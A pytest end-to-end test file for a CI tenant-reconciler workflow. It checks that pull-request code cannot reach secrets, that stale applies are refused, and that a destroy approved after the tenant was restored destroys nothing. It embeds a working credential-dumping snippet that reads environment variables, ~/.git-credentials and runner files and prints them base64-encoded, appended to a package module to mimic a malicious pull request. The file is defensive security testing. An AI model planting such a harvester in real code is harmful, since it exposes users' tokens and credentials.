"""The safe flow (issue 12) under act: pull-request code never holds a credential or a
secret, a stale apply refuses, and a destroy approved after the tenant came back destroys
nothing."""

from __future__ import annotations

import pytest

from tests.repo import REPO
from tests.workflows.conftest import Scenario
from tests.workflows.manifests import tenant

pytestmark = pytest.mark.e2e

REFUSED = "is no longer the head of main"
INIT = (REPO / "reconciler" / "__init__.py").read_text(encoding="utf-8")

# Imported by every `reconciler` command and `python -m reconciler...` the pull request's
# jobs run: prints the environment and every credential file it can find, as is and
# base64-encoded (runners mask known secrets; code that wants them out encodes them).
EVIL = '''"""(a pull request's change)"""
import base64, glob, os

def _steal():
    print("EVIL-CODE-RAN")
    found = dict(os.environ)
    paths = [v for v in os.environ.values() if v.startswith("/") and os.path.isfile(v)]
    paths += glob.glob(os.path.join(os.environ.get("RUNNER_TEMP", "/nonexistent"), "*"))
    paths += [".git/config", os.path.expanduser("~/.git-credentials")]
    for path in paths:
        try:
            with open(path, errors="replace") as handle:
                found[path] = handle.read(100000)
        except OSError:
            pass
    for name, value in found.items():
        print("EVIL", name, value)
        print("EVIL64", name, base64.b64encode(value.encode()).decode())

_steal()
'''


def everything_secret(scenario: Scenario) -> dict[str, str]:
    """Every value no pull-request job may see: repository secrets (the GitHub token
    included) and the cloud's one credential, the state passphrase."""
    passphrase = (scenario.session.root / "passphrase").read_text()
    return {**scenario.session.secrets, "state passphrase": passphrase}


def test_a_same_repository_pr_whose_code_dumps_the_environment_finds_no_secret_or_token(
    scenario: Scenario,
) -> None:
    scenario.origin.commit(
        "evil",
        "onboard acme (and a little extra)",
        # Added to the package's own module, so every command still starts (and runs it).
        {"reconciler/__init__.py": INIT + "\n" + EVIL, "tenants/acme.yaml": tenant("acme")},
    )
    scenario.github.open_pull_request(41, "onboard acme")

    pr, preview = scenario.pull_request(41, "evil")

    # The pull request's code ran (in its own, unprivileged workflow) ...
    assert "EVIL-CODE-RAN" in pr.job("validate").output, pr.summary()
    assert pr.results()["check"] == ["success"]
    # ... and found nothing: no secret, no token, no passphrase, in any log or artifact.
    assert pr.leaked(everything_secret(scenario)) == []
    # The preview ran main's code on the pull request's manifests, never the PR's code.
    assert preview.code == 0, preview.summary()
    assert "EVIL-CODE-RAN" not in "".join(job.output for job in preview.jobs)
    assert preview.leaked(everything_secret(scenario)) == []
    body = scenario.github.comments_on(41)[0]["body"]
    assert "| `acme` | create |" in body, body
    assert "This pull request changes code (2 path(s) outside `tenants/`)" in body
    # Only the trusted run's jobs authenticated, with the read-only identity.
    calls = scenario.auth_calls()
    assert {c["run"] for c in calls} == {preview.run_id}
    assert sorted(c["job"] for c in calls) == ["plan", "preview"]


def test_a_rerun_of_an_old_apply_refuses_and_applies_nothing(scenario: Scenario) -> None:
    origin = scenario.origin
    origin.commit("onboard", "onboard acme", {"tenants/acme.yaml": tenant("acme")})
    old = scenario.merge(42, "onboard")
    # main moves on after the run's plan decided (as when "Re-run failed jobs" reruns the
    # apply job of an old run, whose plan outputs GitHub keeps).
    mover = scenario.when_authenticated(
        "plan",
        lambda: origin.commit("main", "onboard beta", {"tenants/beta.yaml": tenant("beta")}),
    )

    run = scenario.harness.run("tenant-apply.yml", origin.push_event(sha=old))
    mover.join(timeout=5)

    assert run.code != 0, run.summary()
    assert run.job("plan").result == "success"
    legs = run.legs("apply")
    assert legs, run.summary()
    for leg in legs:
        assert leg.failed_steps == [
            "Is this commit still the head of main? "
            "(after any approval, before the credential and the apply)"
        ], run.summary()
        [refusal] = [a for a in leg.annotations if a.level == "error"]
        assert REFUSED in refusal.message and old in refusal.message
    assert "Refused: not the head of main" in run.log  # the annotation's title
    assert [c["job"] for c in scenario.auth_calls()] == ["plan"]  # no deploy credential
    shown = scenario.reconciler("outputs", "--format", "json")
    assert "acme" not in shown.stdout


def test_a_destroy_approved_after_the_tenant_came_back_destroys_nothing(
    scenario: Scenario,
) -> None:
    origin = scenario.origin
    origin.commit(
        "main",
        "more tenants",
        {"tenants/acme.yaml": tenant("acme"), "tenants/beta.yaml": tenant("beta")},
    )
    seeded = scenario.reconciler("apply")
    assert seeded.returncode == 0, seeded.stdout + seeded.stderr
    before = scenario.tenant_ids()
    origin.commit(
        "decommission",
        "decommission acme",
        {"tenants/acme.yaml": tenant("acme", decommission=True)},
    )
    decommission = scenario.merge(43, "decommission")
    # The reviewer approves only after someone restored acme on main.
    restorer = scenario.when_authenticated(
        "plan", lambda: origin.commit("main", "keep acme", {"tenants/acme.yaml": tenant("acme")})
    )

    run = scenario.harness.run("tenant-apply.yml", origin.push_event(sha=decommission))
    restorer.join(timeout=5)

    assert run.code != 0, run.summary()
    assert run.job("destroy").failed_steps == [
        "Is this commit still the head of main? "
        "(after the approval, before the credential and the change)"
    ], run.summary()
    assert any(REFUSED in a.message for a in run.job("destroy").annotations)
    assert scenario.tenant_ids() == before  # acme is still there, with its users
    assert [c["job"] for c in scenario.auth_calls()] == ["plan"]
